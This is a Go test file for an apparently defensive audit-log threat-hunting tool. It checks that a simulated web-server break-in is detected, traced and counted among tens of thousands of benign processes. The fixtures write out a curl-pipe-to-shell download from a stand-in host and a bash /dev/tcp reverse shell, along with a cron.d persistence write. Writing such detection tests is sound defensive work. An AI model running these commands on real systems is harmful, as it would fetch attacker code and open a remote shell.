package hunt_test

import (
	"fmt"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tuxtrail/tuxtrail/hunt"
)

// crowdedHost is a log of a daemon that runs n commands, with a break-in through
// a web server when nine of ten are done.
func crowdedHost(n int, command func(i int) []string) *auditLog {
	a := &auditLog{}
	a.exec(700, 1, system, "/usr/sbin/apache2", "/usr/sbin/apache2", "-k", "start")
	a.exec(600, 1, system, "/usr/sbin/cron", "/usr/sbin/cron", "-f")
	for i := range n {
		a.second = i / 10
		argv := command(i)
		a.exec(1000+i, 600, system, argv[0], argv...)
		if i == n*9/10 {
			a.exec(900_000, 700, nobody, "/usr/bin/dash", "sh", "-c", "id; curl -s http://203.0.113.8/a | sh")
			a.exec(900_001, 900_000, nobody, "/usr/bin/curl", "curl", "-s", "http://203.0.113.8/a")
			a.exec(900_002, 900_000, nobody, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.8/443 0>&1")
		}
	}
	return a
}

func huntAudit(t *testing.T, log string, o hunt.Options) *hunt.Investigation {
	t.Helper()
	return investigate(t, open(t, fstest.MapFS{"audit/audit.log": {Data: []byte(log)}}), o)
}

// TestAttackBehindACrowd: an attack after very many processes is found, is in
// the tree with what led to it, and is told.
func TestAttackBehindACrowd(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name    string
		n       int
		command func(i int) []string
	}{
		{"the same few commands", 200_000, func(i int) []string { return []string{"/usr/bin/job", fmt.Sprint(i % 7)} }},
		{"each command its own", 50_000, func(i int) []string {
			return []string{fmt.Sprintf("/opt/p%d", i%5000), "--id", fmt.Sprintf("%x", i*7919)}
		}},
		{"commands that a rule knows", 50_000, func(int) []string { return []string{"/usr/bin/id"} }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			n := tc.n
			inv := huntAudit(t, crowdedHost(n, tc.command).b.String(), hunt.Options{})
			assert.Len(t, inv.Processes, 20_000)
			assert.Equal(t, n+6-len(inv.Processes), inv.Omitted.Processes, "the others are counted, with the first process, two daemons and three of the attack")
			byID := map[int]*hunt.Process{}
			for i := range inv.Processes {
				byID[inv.Processes[i].ID] = &inv.Processes[i]
			}
			var path []string
			for i := range inv.Processes {
				if p := &inv.Processes[i]; p.PID == 900_002 {
					for q := p; q != nil; q = byID[q.Parent] {
						path = append(path, q.Exe)
					}
				}
			}
			require.Equal(t, []string{"/usr/bin/bash", "/usr/bin/dash", "/usr/sbin/apache2", ""}, path)
			require.NotEmpty(t, inv.Findings)
			assert.Equal(t, hunt.SeverityCritical, inv.Findings[0].Severity)
			var story strings.Builder
			for _, s := range inv.Findings[0].Steps {
				story.WriteString(s.Text + "\n")
			}
			assert.Contains(t, story.String(), "http://203.0.113.8/a")
			assert.Contains(t, story.String(), "203.0.113.8:443")
			assert.Contains(t, strings.Join(inv.Coverage.Notes, "\n"), "processes beyond the limit of 20000")
		})
	}
}

// TestCountsOfACrowd: what counts processes counts all of them, listed or not.
func TestCountsOfACrowd(t *testing.T) {
	t.Parallel()
	a := &auditLog{}
	const n = 4000
	inSession := "auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=5"
	fmt.Fprintf(&a.b, "type=USER_START msg=%s: pid=900 uid=0 auid=1000 ses=5 msg='op=PAM:session_open acct=\"ann\" exe=\"/usr/sbin/sshd\" hostname=192.0.2.7 addr=192.0.2.7 terminal=ssh res=success'\n", a.stamp())
	a.exec(901, 900, inSession, "/bin/bash", "-bash")
	for i := range n {
		a.second = 1 + i
		a.exec(1000+i%500, 901, inSession, "/usr/bin/curl", "curl", "-s", fmt.Sprintf("http://192.0.2.99/%d", i%3))
	}
	whole := huntAudit(t, a.b.String(), hunt.Options{})
	part := huntAudit(t, a.b.String(), hunt.Options{MaxProcesses: 100})
	assert.Empty(t, whole.Omitted.Processes)
	assert.Len(t, part.Processes, 100)
	assert.Equal(t, len(whole.Processes), len(part.Processes)+part.Omitted.Processes)
	commands := func(inv *hunt.Investigation) map[string][2]int64 {
		out := map[string][2]int64{}
		for _, c := range inv.Commands {
			out[c.Text] = [2]int64{int64(c.Count), c.Of}
			assert.Equal(t, []string{"ann"}, c.Users)
			assert.Equal(t, []string{"S1"}, c.Sessions)
		}
		return out
	}
	assert.Equal(t, commands(whole), commands(part))
	require.Len(t, part.Users, len(whole.Users))
	for i := range whole.Users {
		assert.Equal(t, whole.Users[i].Commands, part.Users[i].Commands)
	}
	assert.Equal(t, whole.Sessions[0].Facts.Risky, part.Sessions[0].Facts.Risky)
	counts := func(inv *hunt.Investigation) map[string]int {
		out := map[string]int{}
		for _, i := range inv.Indicators {
			out[i.Value] = i.Count
			assert.NotContains(t, strings.Join(i.Sessions, " "), "\x00")
		}
		return out
	}
	assert.Equal(t, counts(whole), counts(part))
}

// TestActsBehindACrowd: one connection and one change that matter are listed,
// though very many others came before.
func TestActsBehindACrowd(t *testing.T) {
	t.Parallel()
	a := &auditLog{}
	call := func(n, pid int, exe, key string) string {
		s := a.stamp()
		fmt.Fprintf(&a.b, "type=SYSCALL msg=%s: arch=c000003e syscall=%d success=yes exit=0 a0=0 a1=0 a2=0 a3=0 items=1 ppid=1 pid=%d %s comm=\"x\" exe=%q key=%q\n", s, n, pid, system, exe, key)
		return s
	}
	connect := func(pid int, exe, saddr string) {
		fmt.Fprintf(&a.b, "type=SOCKADDR msg=%s: saddr=%s0000000000000000\n", call(42, pid, exe, "net"), saddr)
	}
	write := func(pid int, exe, name string) {
		s := call(257, pid, exe, "watch")
		fmt.Fprintf(&a.b, "type=CWD msg=%s: cwd=\"/\"\ntype=PATH msg=%s: item=0 name=%q inode=1 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE\n", s, s, name)
	}
	const n = 30_000
	for i := range n {
		a.second = i / 100
		connect(500, "/usr/bin/scan", fmt.Sprintf("0200%04X0B000001", 1+i))
		write(501, "/usr/bin/rsync", fmt.Sprintf("/data/%d", i))
		if i == n*9/10 {
			connect(502, "/usr/bin/bash", "020001BBCB007108")
			write(503, "/usr/bin/dash", "/etc/cron.d/upd")
		}
	}
	inv := huntAudit(t, a.b.String(), hunt.Options{})
	assert.LessOrEqual(t, len(inv.Connections), 10_000)
	assert.Equal(t, n+1, len(inv.Connections)+inv.Omitted.Connections)
	assert.Equal(t, n+1, len(inv.FileChanges)+inv.Omitted.FileChanges)
	var to, paths []string
	for _, c := range inv.Connections {
		to = append(to, c.Address.String())
	}
	for _, f := range inv.FileChanges {
		paths = append(paths, f.Path)
	}
	assert.Contains(t, to, "203.0.113.8:443")
	assert.Contains(t, paths, "/etc/cron.d/upd")
	for _, p := range inv.Network.Addresses {
		if p.Address.String() == "11.0.0.1" {
			assert.EqualValues(t, n, p.Out, "all are counted")
		}
	}
}
